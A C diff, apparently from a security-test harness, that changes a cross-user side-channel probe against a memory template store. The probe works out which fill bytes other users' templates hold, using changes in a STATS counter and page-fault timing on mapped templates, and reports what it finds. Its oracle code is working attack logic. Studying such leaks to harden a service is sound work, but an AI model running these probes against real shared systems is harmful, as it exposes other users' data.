@@ -156,10 +156,13 @@ static int cmp_dbl(const void *a, const void *b)
 }
 
 /* oracle: does another uid hold a template of byte g? For each of the 256
- * fill bytes, trials= times: STATS' template count, TEMPLATE_FILL g (timed),
- * STATS again, release. A count that did not grow means the store had it
- * already: someone holds it. Reports the bytes so found, and the bytes
- * whose creation was fastest (a timing oracle needs no STATS at all). */
+ * fill bytes, trials= times: STATS' template count, TEMPLATE_FILL g, STATS
+ * again; a count that did not grow means the store had it already:
+ * someone holds it. Then map it and time a 2-page fill: fast when the
+ * template's slab exists (someone's multi-page fills built it), slow when
+ * this fill must build it: a timing oracle that needs no STATS. Reports
+ * the bytes STATS gave away, and the eight fastest fills (the best of the
+ * trials each: noise only ever adds). */
 int atk_oracle(const char *sock)
 {
 	int trials = (int)tn_opt_ll("trials", 5);
@@ -187,13 +190,26 @@ int atk_oracle(const char *sock)
 		for (int k = 0; k < trials; k++) {
 			if ((r = atk_stats(&c, v0)) < 0)
 				break;
-			uint64_t t0 = tn_now_ns();
 			long id = atk_fill(&c, (uint8_t)g);
-			t[k] = (double)(tn_now_ns() - t0) / 1e3;
 			if ((r = atk_stats(&c, v1)) < 0)
 				break;
-			if (id > 0)
+			t[k] = 1e9;
+			if (id > 0) {
+				/* Fault page 0, then time page 1: a 2-page fill from the
+				 * template's slab, built now (256 KiB) unless someone's
+				 * fills built it already. */
+				uint8_t *q = atk_anon(4 * P);
+				if (q != MAP_FAILED && atk_map(&c, (uintptr_t)q, 4 * P, (uint32_t)id) == 0) {
+					(void)*(volatile uint8_t *)q;
+					uint64_t t0 = tn_now_ns();
+					(void)*(volatile uint8_t *)(q + P);
+					t[k] = (double)(tn_now_ns() - t0) / 1e3;
+					atk_unmap(&c, (uintptr_t)q, 4 * P);
+				}
+				if (q != MAP_FAILED)
+					munmap(q, 4 * P);
 				atk_release(&c, (uint32_t)id);
+			}
 			h += v1[PROTO_STAT_TEMPLATES] == v0[PROTO_STAT_TEMPLATES];
 		}
 		if (r < 0) {
@@ -202,7 +218,7 @@ int atk_oracle(const char *sock)
 		}
 		hits[g] = h * 2 > trials;
 		qsort(t, (size_t)trials, sizeof(t[0]), cmp_dbl);
-		med[g] = t[trials / 2];
+		med[g] = t[0];
 	}
 	char list[1200] = "";
 	size_t n = 0;
@@ -213,7 +229,7 @@ int atk_oracle(const char *sock)
 			nhits++;
 		}
 	atk_finding("oracle_stats_hits=%s", nhits ? list : "none");
-	/* The eight fastest creations, fastest first. */
+	/* The eight fastest fills, fastest first. */
 	int order[256];
 	for (int g = 0; g < 256; g++)
 		order[g] = g;
@@ -233,7 +249,7 @@ int atk_oracle(const char *sock)
 	for (int i = 0; i < 8; i++)
 		n += (size_t)snprintf(list + n, sizeof(list) - n, "%s0x%02x:%.1f", i ? "," : "", order[i],
 				      med[order[i]]);
-	atk_finding("oracle_timing_fastest=%s median_create_us=%.1f", list, all[128]);
+	atk_finding("oracle_timing_fastest=%s median_of_fastest_us=%.1f", list, all[128]);
 	atk_close(&c);
 	return 0;
 }
